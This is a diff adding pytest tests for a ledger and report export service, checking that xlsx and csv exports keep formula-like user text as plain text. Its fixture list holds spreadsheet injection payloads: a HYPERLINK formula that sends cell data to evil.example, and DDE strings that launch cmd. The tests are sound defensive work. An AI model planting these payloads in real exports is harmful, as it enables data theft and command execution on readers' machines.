@@ -1,7 +1,10 @@
 """Ledger and monthly-report exports: xlsx shape, csv with BOM, and the CLI commands."""
 from __future__ import annotations
 
+import csv
+import io
 import json
+import zipfile
 from datetime import datetime, timezone
 
 from openpyxl import load_workbook
@@ -9,7 +12,7 @@ from sqlalchemy import select
 
 from models.org import Branch
 from models.report import MonthlyReport
-from services import demo, demo_data, exports, ledger, org
+from services import bureau, demo, demo_data, exports, ledger, org, summary
 
 NOW = datetime(2026, 12, 20, 4, 0, tzinfo=timezone.utc)
 
@@ -148,3 +151,76 @@ def test_admin_create_reads_password_from_stdin(settings, session_factory, tmp_p
     with session_factory() as session:
         account = admin_accounts.authenticate(session, "clerk", "long-enough-pw", "127.0.0.1", now=NOW)
         assert account.role == "viewer" and "long-enough-pw" not in account.password_hash
+
+
+# --- formula injection: every export writes user text as text ---------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def hostile_task(settings, session_factory) -> None:
+    """A member named like a formula files a formula-like request; the 办结说明 is one too."""
+    from models.org import Person
+    from services import tasks
+    with session_factory() as session:
+        org.sync_org(session, settings)
+        demo.seed(session, settings, now=NOW)
+        member = session.scalar(select(Person).where(Person.role == "member").order_by(Person.id))
+        member.name = HOSTILE[1]
+        for i, text in enumerate(HOSTILE):
+            task = tasks.submit_request(session, member, text, {"branch": "internal"}, now=NOW, sandbox=True)
+            task.status, task.resolved_at, task.resolution_note = "resolved", NOW, HOSTILE[(i + 2) % len(HOSTILE)]
+        branch = session.scalars(select(Branch).order_by(Branch.id)).first()
+        branch.name = HOSTILE[0]  # names come from config.yaml, but a writer must not care where text comes from
+        session.commit()
+
+
+def no_formulas(data: bytes) -> list[str]:
+    """Every string cell of an xlsx; fails if any cell of any sheet is a formula."""
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    book = load_workbook(io.BytesIO(data))
+    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "s" and c.value is not None]
+
+
+def test_ledger_xlsx_keeps_formula_like_text_as_text(settings, session_factory):
+    hostile_task(settings, session_factory)
+    out = io.BytesIO()
+    with session_factory() as session:
+        exports.export_ledger(session, ledger.LedgerFilter(), settings.tz, out, "xlsx")
+    strings = no_formulas(out.getvalue())
+    for text in HOSTILE:  # request text, requester name and 办结说明 kept (XML reads a CR back as LF)
+        assert text.replace("\r", "\n") in strings
+    sheet = load_workbook(io.BytesIO(out.getvalue())).active
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE[0])
+    assert cell.quotePrefix  # editing the cell in Excel keeps it text
+
+
+def test_ledger_and_reports_csv_prefix_formula_like_values(settings, session_factory):
+    hostile_task(settings, session_factory)
+    with session_factory() as session:
+        cons = org.consortium_by_code(session, None)
+        out, rep = io.BytesIO(), io.BytesIO()
+        exports.export_ledger(session, ledger.LedgerFilter(), settings.tz, out, "csv")
+        exports.export_reports(session, cons.id, 2026, settings.tz, rep, "csv", today_period="2026-12")
+    for data in (out.getvalue(), rep.getvalue()):
+        cells = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
+        assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert "'" + HOSTILE[0] in cells
+    ledger_cells = {v for row in csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))) for v in row}
+    assert {"'" + t for t in HOSTILE} <= ledger_cells
+
+
+def test_reports_summary_and_bureau_workbooks_hold_no_formula(settings, session_factory):
+    hostile_task(settings, session_factory)
+    with session_factory() as session:
+        cons = org.consortium_by_code(session, None)
+        books = [io.BytesIO() for _ in range(3)]
+        exports.export_reports(session, cons.id, 2026, settings.tz, books[0], "xlsx", today_period="2026-12")
+        summary.export_summary(session, [cons], 2026, books[1], tz=settings.tz, today=NOW.date())
+        bureau.export_workbook(session, books[2], year=2026, period="2026-12", tz=settings.tz, today=NOW.date())
+    for book in books:
+        assert HOSTILE[0] in no_formulas(book.getvalue())
